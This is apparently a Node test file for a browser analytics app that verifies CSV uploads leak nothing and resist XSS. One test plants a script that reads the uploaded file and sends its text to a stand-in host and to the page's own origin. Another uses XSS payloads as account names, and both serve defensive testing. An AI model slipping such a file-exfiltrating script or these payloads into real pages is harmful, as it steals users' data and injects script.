// Privacy: during an upload nothing leaves 127.0.0.1, no request carries file content, and the
// CSP reports no violation. A second run serves a copy of the page with a planted leak (a
// test-only script that sends the picked file's text away) and proves the same checks fail.
// XSS: an account named `<img src=x onerror=alert(1)>` shows as text and runs nothing.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { repo, skip, startServer, launch, openPage, waitReady, shot } from './support.js';
const MARK = 'zq-secret-account-7f3a9';  // appears only in the uploaded files
const events = `timestamp,account_id,user_id,event\n${Array.from({ length: 400 }, (_, i) =>
  `2026-06-${String(1 + (i % 28)).padStart(2, '0')}T10:${String(i % 60).padStart(2, '0')}:00Z,${MARK}-${i % 7},${MARK}-user-${i % 13},${['project_created', 'dashboard_viewed', 'report_created', 'user_invited'][i % 4]}`).join('\n')}\n`;
const files = [{ name: 'private-events.csv', mimeType: 'text/csv', buffer: Buffer.from(events) }];

let browser;
before(async () => { if (!skip) browser = await launch(); });
after(async () => { await browser?.close(); });

/** Everything wrong with what the page sent while it handled the upload. */
function problems(log, origin) {
  const out = [];
  for (const r of log.requests) {
    const url = new URL(r.url);
    if (!['blob:', 'data:'].includes(url.protocol) && url.origin !== origin) out.push(`request leaves ${origin}: ${r.method} ${r.url}`);
    if (r.url.includes(MARK) || r.body?.toString('latin1').includes(MARK)) out.push(`request carries file content: ${r.method} ${r.url}`);
    if (r.method !== 'GET') out.push(`non-GET request: ${r.method} ${r.url}`);
  }
  for (const v of log.violations) out.push(`CSP violation: ${v.directive} ${v.blocked}`);
  return out;
}

async function upload(url, name) {
  const { page, context, log } = await openPage(browser, `${url}#data`);
  await waitReady(page);
  log.requests.length = 0;  // the page's own assets are not the question; the upload is
  await page.setInputFiles('#file-input', files);
  await page.click('#score-files');
  await page.waitForSelector('#spectrum[data-points="7"]', { timeout: 60000 });
  await page.waitForTimeout(500);  // let any late beacon go out
  await shot(page, name);
  const origin = new URL(url).origin;
  await context.close();
  return { log, origin };
}

test('privacy: an upload sends nothing anywhere and breaks no CSP rule', { skip, timeout: 120000 }, async () => {
  const server = await startServer();
  try {
    const { log, origin } = await upload(server.url, '13-privacy-upload');
    assert.match(origin, /^http:\/\/127\.0\.0\.1:\d+$/);
    assert.deepEqual(problems(log, origin), []);
  } finally {
    server.stop();
  }
});

test('privacy: the same checks catch a planted leak', { skip, timeout: 120000 }, async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'pqlscope-leaky-'));
  try {
    cpSync(`${repo}web/dist`, dir, { recursive: true });
    // Test-only: reads the picked file and sends it off-site (the CSP must block and report it)
    // and to its own origin (allowed by the CSP; the request log must catch the content).
    writeFileSync(join(dir, 'leak.js'), `
      document.addEventListener('change', async (e) => {
        const file = e.target.files?.[0];
        if (!file) return;
        const text = (await file.text()).slice(0, 2000);
        fetch('https://collector.invalid/c?d=' + encodeURIComponent(text.slice(0, 200))).catch(() => {});
        fetch('./collect', { method: 'POST', body: text }).catch(() => {});
      }, true);`);
    const index = readFileSync(join(dir, 'index.html'), 'utf8');
    writeFileSync(join(dir, 'index.html'), index.replace('</head>', '<script type="module" src="./leak.js"></script></head>'));
    const server = await startServer(dir);
    try {
      const { log, origin } = await upload(server.url, '14-privacy-planted-leak');
      const found = problems(log, origin);
      t.diagnostic(`caught: ${found.join(' | ')}`);
      assert.ok(found.some((p) => p.startsWith('CSP violation: connect-src https://collector.invalid')), found.join('\n'));
      assert.ok(found.some((p) => p.startsWith('request carries file content: POST')), found.join('\n'));
    } finally {
      server.stop();
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('xss: an uploaded account name is text, nothing runs', { skip, timeout: 120000 }, async () => {
  const server = await startServer();
  const evil = '<img src=x onerror=alert(1)>';
  const accounts = `account_id,name,domain,employees,plan\nacc_evil,"${evil}",evil.example,20,trial\n`;
  const ev = 'timestamp,account_id,user_id,event\n2026-06-01T10:00:00Z,acc_evil,"<script>alert(2)</script>",project_created\n2026-06-02T10:00:00Z,acc_evil,u2,dashboard_viewed\n';
  try {
    const { page, log, context } = await openPage(browser, `${server.url}#data`);
    await waitReady(page);
    await page.setInputFiles('#file-input', [{ name: 'events.csv', mimeType: 'text/csv', buffer: Buffer.from(ev) },
      { name: 'accounts.csv', mimeType: 'text/csv', buffer: Buffer.from(accounts) }]);
    await page.click('#score-files');
    await page.waitForSelector('#spectrum[data-points="1"]', { timeout: 60000 });
    // Hover the only point: the tooltip shows the name as text.
    const at = await page.evaluate(() => window.pqlscopeApp.pointOf('acc_evil'));
    await page.mouse.move(at.x, at.y);
    await page.waitForSelector('.tip', { state: 'visible' });
    assert.equal(await page.$eval('.tip strong', (el) => el.textContent), evil);
    await page.evaluate(() => { location.hash = 'account/acc_evil'; });
    await page.waitForSelector('#account-name');
    assert.equal(await page.textContent('#account-name'), evil);
    await page.evaluate(() => { location.hash = 'segments/sales'; });
    await page.waitForTimeout(300);
    await page.evaluate(() => { location.hash = 'account/acc_evil'; });
    await page.waitForTimeout(300);
    await shot(page, '15-xss-account');
    assert.equal(await page.locator('img[src="x"]').count(), 0);
    assert.equal(await page.locator('main script').count(), 0);
    assert.deepEqual(log.dialogs, []);
    assert.deepEqual(log.violations, []);
    await context.close();
  } finally {
    server.stop();
  }
});
